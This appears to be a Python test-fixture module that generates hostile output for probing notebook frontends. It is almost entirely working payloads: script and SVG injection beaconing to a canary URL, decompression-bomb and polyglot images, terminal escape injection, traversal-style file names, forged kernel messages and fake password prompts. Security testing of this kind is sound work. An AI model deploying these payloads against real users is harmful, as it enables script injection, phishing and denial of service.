"""What hostile code may send to whoever shows its output: displays, pictures, files, text and forged messages.

Each payload does up to two things: it asks a server for ``/<its name>``, and it sets ``pwned`` on the page.
"""

from __future__ import annotations


def displays(canary: str) -> str:
    """Code that displays active content of every MIME type that some frontend acts on, each in three ways."""
    return _code(_DISPLAYS, canary) + _IN_EVERY_WAY


def displays_that_stay(canary: str) -> str:
    """The same without those that take the page elsewhere, each in one way."""
    return _code(_DISPLAYS, canary) + _ONCE


def pictures(canary: str) -> str:
    """Code that displays and saves pictures made to hurt whoever decodes or sniffs them, and one that is well."""
    return _code(_PICTURES, canary)


def texts(canary: str) -> str:
    """Code that prints, raises and names files with what terminals and pages act on."""
    return _code(_TEXTS, canary)


def forgeries(canary: str) -> str:
    """Code that speaks the kernel's protocol behind its back."""
    return _code(_FORGERIES, canary)


FLOOD = """
from IPython.display import display
for number in range(20_000):
    display({"text/html": f"<script>top.pwned = {number}</script>", "text/plain": f"display {number}"}, raw=True)
block = "<b>flood</b> " * 80_000 + "\\n"
for _ in range(300 * 2**20 // len(block)):
    print(block, end="")
print("the end of the flood")
"""


def _code(body: str, canary: str) -> str:
    return f"CANARY = {canary!r}\n{_HELPERS}{body}"


_HELPERS = """
def js(name):
    return f"top.pwned=(top.pwned||'')+'{name} ';new Image().src='{CANARY}/{name}'"


def svg(name):
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" '
        f'onload="{js(name)}"><script>{js(name)}</script><image href="{CANARY}/{name}" width="9" height="9"/>'
        f'<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="{CANARY}/{name}"/>'
        f'</foreignObject><a xlink:href="javascript:{js(name)}"><text y="9">x</text></a></svg>'
    )
"""

_DISPLAYS = r"""
import base64
from IPython.display import display

PDF = f'''%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({CANARY}/pdf)>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/JavaScript/JS(app.alert\(1\))>>>>>>endobj
trailer<</Root 1 0 R>>
'''
LINKS = f"[click](javascript:top.pwned=1) ![m]({CANARY}/markdown-picture) <img src='x:' onerror=\"{js('markdown')}\">"
MATH = (
    rf"$\require{{html}}\href{{javascript:top.pwned=1}}{{x}} \style{{background:url({CANARY}/latex-style)}}{{y}}"
    rf"\htmlData{{a=b}}{{z}} \includegraphics{{{CANARY}/latex-graphics}}$"
)
VEGA = {"width": 9, "height": 9, "data": [{"name": "t", "url": f"{CANARY}/vega"}],
        "marks": [{"type": "image", "encode": {"enter": {"url": {"value": f"{CANARY}/vega-image"}}}}]}
LITE = {"data": {"url": f"{CANARY}/vega-lite"}, "mark": "point"}
WIDGET = "application/vnd.jupyter.widget-view+json"
BUNDLES = {
    "script": {"text/html": f"<script>{js('script')}</script>"},
    "script-source": {"text/html": f"<script src='{CANARY}/script-source'></script>"},
    "onerror": {"text/html": f'<img src="x:" onerror="{js("onerror")}">'},
    "image": {"text/html": f"<img src='{CANARY}/image'><img srcset='{CANARY}/srcset'>"},
    "media": {"text/html": f"<video poster='{CANARY}/poster'></video><audio autoplay src='{CANARY}/audio'></audio>"},
    "style": {"text/html": f"<style>@import '{CANARY}/import'; p {{background: url({CANARY}/style)}}</style><p>x</p>"},
    "link": {"text/html": f"<link rel=stylesheet href='{CANARY}/link'><link rel=prefetch href='{CANARY}/prefetch'>"},
    "object": {"text/html": f"<object data='{CANARY}/object'></object><embed src='{CANARY}/embed'>"},
    "svg": {"text/html": svg("svg")},
    "frame": {"text/html": f"<iframe src='{CANARY}/frame'></iframe>"},
    "srcdoc": {"text/html": f"<iframe srcdoc=\"<script>{js('srcdoc')}</script>\"></iframe>"},
    "dialog": {"text/html": "<script>setTimeout(() => alert('pwned'), 0)</script>"},
    "base": {"text/html": f"<base href='{CANARY}/base/'><img src='base'>"},
    "refresh": {"text/html": f"<meta http-equiv=refresh content='0;url={CANARY}/refresh'>"},
    "form": {"text/html": f"<form action='{CANARY}/form'><input autofocus onfocus='this.form.submit()'></form>"
             f"<script>document.querySelector('form[action*=canary], form').submit()</script>"},
    "out": {"text/html": f"</pre></details></div></script><img src='{CANARY}/out'>"},
    "javascript": {"application/javascript": js("javascript")},
    "old-javascript": {"text/javascript": js("old-javascript")},
    "svg-file": {"image/svg+xml": svg("svg-file")},
    "markdown": {"text/markdown": LINKS},
    "diagram": {"text/vnd.mermaid": f'graph LR; A["<img src={CANARY}/diagram onerror=top.pwned=1>"]'},
    "latex": {"text/latex": MATH},
    "widget": {WIDGET: {"model_id": "f00d", "version_major": 2, "version_minor": 0}},
    "widget-state": {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}},
    "vega": {"application/vnd.vega.v5+json": {"$schema": "https://vega.github.io/schema/vega/v5.json", **VEGA}},
    "vega-lite": {"application/vnd.vegalite.v5+json": LITE},
    "geojson": {"application/geo+json": {"type": "Feature", "properties": {"popup": svg("geojson")},
                "geometry": {"type": "Point", "coordinates": [0, 0]}}},
    "pdf": {"application/pdf": base64.b64encode(PDF.encode()).decode()},
    "plotly": {"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": f"{CANARY}/plotly"}]}}},
    "json": {"application/json": {f"<img src='{CANARY}/json'>": [LINKS]}},
    "stderr": {"application/vnd.jupyter.stderr": f"\x1b]8;;{CANARY}/stderr\x1b\\<img src='{CANARY}/stderr'>"},
    "png-that-is-html": {"image/png": f"x\" onerror=\"{js('png-that-is-html')}"},
    "png-that-is-svg": {"image/png": base64.b64encode(svg("png-that-is-svg").encode()).decode()},
    "all": {"text/html": svg("all"), "image/svg+xml": svg("all"), "application/javascript": js("all"),
            "text/markdown": LINKS, "text/latex": MATH, "text/plain": f"plain {LINKS}"},
    "plain": {"text/plain": f"{svg('plain')} {LINKS} {MATH} {CANARY}/plain \x1b]8;;{CANARY}/plain\x07x\x1b]8;;\x07"},
}
METADATA = {
    "isolated": True, "trusted": True, "collapsed": False, "scrolled": False, "jupyter": {"outputs_hidden": False},
    **{kind: {"isolated": True, "unconfined": True, "width": "9\" onload=\"top.pwned=1"}
       for kind in ("text/html", "image/png", "image/svg+xml")},
}
"""

_ONCE = """
for name in BUNDLES.keys() - {"base", "refresh", "form"}:
    display(BUNDLES[name], raw=True)
display({}, raw=True, display_id="later")
display({"text/html": f"<script>{js('update')}</script>"}, raw=True, display_id="later", update=True)
"""

_IN_EVERY_WAY = """
for name, bundle in BUNDLES.items():
    display(bundle, raw=True)
    display(bundle, raw=True, metadata=METADATA)
    handle = display({"text/plain": "wait"}, raw=True, display_id=True)
    handle.update(bundle, raw=True)


class Shown:
    def _repr_mimebundle_(self, include=None, exclude=None):
        return BUNDLES["all"], METADATA


Shown()
"""

_PICTURES = """
import base64, io, struct, zlib
import PIL.Image
from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, data):
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def saved(kind, size=(30, 20), **options):
    buffer = io.BytesIO()
    PIL.Image.new("RGB", size, "navy").save(buffer, kind, **options)
    return buffer.getvalue()


html = f"<html><script>{js('polyglot')}</script><img src='{CANARY}/polyglot'></html>".encode()
slow = saved("JPEG", (8192, 4800), progressive=True)
scan = slow[slow.rindex(b"\\xff\\xc4", 0, slow.rindex(b"\\xff\\xda")) : -2]
frames = [PIL.Image.new("RGB", (2, 2), (number % 250, number // 4, 0)) for number in range(1000)]
well = saved("PNG")
made = {
    "well.png": ("image/png", well),
    "huge.png": ("image/png", png(60_000, 60_000, zlib.compress(bytes(2**20)))),
    "wide.png": ("image/png", saved("PNG", (9000, 1))),
    "frames.gif": ("image/gif", saved("GIF", (2, 2), save_all=True, append_images=frames, duration=10)),
    "trailing.png": ("image/png", well + html),
    "text.png": ("image/png", well[:33] + chunk(b"tEXt", b"Comment\\0" + html) + well[33:]),
    "picture.png": ("image/png", svg("picture").encode()),
    "html.gif": ("image/gif", b"GIF89a/*" + html + b"*/=1;"),
    "cut.jpg": ("image/jpeg", saved("JPEG")[:200]),
    "scans.jpg": ("image/jpeg", slow[:-2] + scan * 20_000 + slow[-2:]),
    "other.webp": ("image/webp", well),
    "page.html": ("image/png", html),
    "page.svg": ("image/svg+xml", svg("page").encode()),
}
for name, (kind, data) in made.items():
    with open(name, "wb") as file:
        file.write(data)
    display({kind: base64.b64encode(data).decode()}, raw=True, metadata={kind: {"width": 10**9, "unconfined": True}})
"""

_TEXTS = """
import os, pathlib, sys

HOST = CANARY.removeprefix("http://")
ESCAPES = (
    f"\\x1b]8;;{CANARY}/osc8\\x1b\\\\link\\x1b]8;;\\x07 \\x1b]52;c;cHduZWQ=\\x07 \\x1b]0;pwned\\x07 \\x1b[2J\\x1b[1;1H"
    f"\\x1bP+q\\x1b\\\\ \\x1b[6n \\x9b31m \\x9d8;;{CANARY}/c1\\x9c \\x08\\x08\\u202e \\x1b[8mhidden\\x1b[0m\\r over"
)
for stream in (sys.stdout, sys.stderr):
    print(ESCAPES, f"<img src='{CANARY}/text'><script>{js('text')}</script>", CANARY + "/linked", file=stream)
    print("</pre></details>", svg("text"), file=stream)
    print("$\\\\require{html}\\\\href{javascript:top.pwned=1}{x}$", file=stream)
    print("$\\\\style{background:url(" + CANARY + "/math)}{y}$", file=stream)
os.write(1, f"{ESCAPES} <img src='{CANARY}/descriptor'>".encode() + b"\\xff\\xfe\\x00\\n")
sides = f"&#47;&#47;{HOST}&#47;"
for name in (
    f"<img src='http:{sides}name'>.txt", f'"><img src="http:{sides}name">.txt', f"<svg onload=top.pwned=1>.png",
    f"' onmouseover='top.pwned=1.csv", "javascript:top.pwned=1", f"data:text&#47;html,x.html", "$x^2$ **b** [a](b).txt",
    "\\x1b]8;;evil\\x07.txt", "two\\nlines", "\\u202egnp.exe", "-rf", "%2e%2e%2fup.txt", ".hidden.html", "note.ipynb",
):
    pathlib.Path(name).write_text(f"<script>{js('file')}</script>")
hostile = type(f"<img src='{CANARY}/error-name'>", (Exception,), {})
raise hostile(f"{ESCAPES} <img src='{CANARY}/error' onerror='top.pwned=1'></pre>{svg('error')}")
"""

_FORGERIES = r"""
import contextlib, getpass

shell = get_ipython()
kernel = shell.kernel
parent = kernel.get_parent()


def forge(kind, socket=None, **content):
    kernel.session.send(socket or kernel.iopub_socket, kind, content, parent=parent, ident=b"kernel.x." + kind.encode())


bundle = {"text/html": f"<script>{js('forged')}</script><img src='{CANARY}/forged'>", "text/plain": "forged"}
forge("status", execution_state="idle")
forge("status", execution_state="dead")
forge("status", execution_state="restarting")
forge("display_data", data=bundle, metadata={}, transient={"display_id": "x"})
forge("update_display_data", data=bundle, metadata={}, transient={"display_id": "x"})
forge("execute_result", data=bundle, metadata={}, execution_count=10**9)
forge("display_data", data="no mapping", metadata=[], transient=None)
forge("stream", name=["no", "name"], text={"no": "text"})
forge("error", ename={}, evalue=None, traceback="no list")
forge("execute_input", code="<script>top.pwned=1</script>", execution_count="x")
forge("clear_output", wait=False)
forge("comm_open", comm_id="f00d", target_name="jupyter.widget", target_module=f"{CANARY}/module.js",
      data={"state": {"_model_name": "HTMLModel", "_view_name": "HTMLView", "value": bundle["text/html"],
            "_model_module": f"{CANARY}/module", "_view_module": f"{CANARY}/module"}})
forge("comm_msg", comm_id="f00d", data={"method": "update", "state": {"value": bundle["text/html"]}})
forge("comm_close", comm_id="f00d", data={})
forge("debug_event", event="stopped", body={})
forge("no_such_message", x=1)
for to in (kernel._parent_ident["shell"], [b"anyone"]):
    with contextlib.suppress(Exception):
        request = {"prompt": "Password:", "password": True}
        kernel.session.send(kernel.stdin_socket, "input_request", request, parent=parent, ident=to)
for ask in (input, getpass.getpass):
    with contextlib.suppress(Exception):
        ask("Password:")
shell.set_next_input("top.pwned = 1", replace=True)
shell.set_next_input("top.pwned = 2", replace=False)
for payload in (
    {"source": "page", "data": bundle, "start": 0}, {"source": "ask_exit", "keepkernel": False},
    {"source": "edit_magic", "filename": "/etc/passwd", "line_number": 1},
    {"source": "set_next_input", "text": "top.pwned = 3", "replace": False},
):
    shell.payload_manager.write_payload(payload, single=False)
print("forged all of it")
"""
